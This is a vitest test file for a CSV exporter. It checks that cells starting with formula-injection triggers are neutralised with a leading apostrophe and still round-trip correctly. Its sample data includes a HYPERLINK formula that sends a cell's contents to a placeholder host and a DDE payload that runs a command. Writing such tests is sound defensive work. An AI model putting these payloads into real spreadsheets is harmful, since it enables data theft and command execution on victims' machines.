// Catalogue entry 49: CSV formula injection. Every cell whose first character (after CSV unquoting)
// is a trigger (= + - @, TAB, CR, LF, fullwidth ＝) gets a leading `'` and is quoted when needed;
// inner quotes are doubled; the multi-line case is escaped; re-parsing gives the neutralised text.
// Through `solidata clean`, I1 holds (rows in = clean + quarantined + merged).
import { toCSV } from "@solidata/core";
import { table } from "arquero";
import { describe, expect, it } from "vitest";
import { parseCsv } from "../parse-csv.js";

const HOSTILE = [
  '=HYPERLINK("http://x/?"&A1,"clic")',
  "@SUM(A1)",
  "+1+1",
  "-1-1",
  "=cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "=1+1\nnote",
  "\uFF1D1+1",
  ";=1+1",
  '",=1+1',
];

describe("49. CSV formula injection", () => {
  it.each([",", ";"])("neutralises every trigger and round-trips the neutralised text (delimiter %s)", (delimiter) => {
    const csv = toCSV(table({ note: HOSTILE }), { delimiter });
    const rows = parseCsv(csv, delimiter);
    expect(rows.length).toBe(HOSTILE.length + 1);
    rows.slice(1).forEach(([cell], i) => {
      const original = HOSTILE[i] as string;
      const trigger = /^[=+\-@\t\r\n\uFF1D]/.test(original);
      // re-parsing gives the neutralised text: the original behind one `'` when it starts with a trigger
      expect(cell).toBe(trigger ? `'${original}` : original);
    });
    // the multi-line cell stays one quoted record (its second line is inside the quotes)
    expect(csv).toContain(`"'=1+1\nnote"`);
  });
});
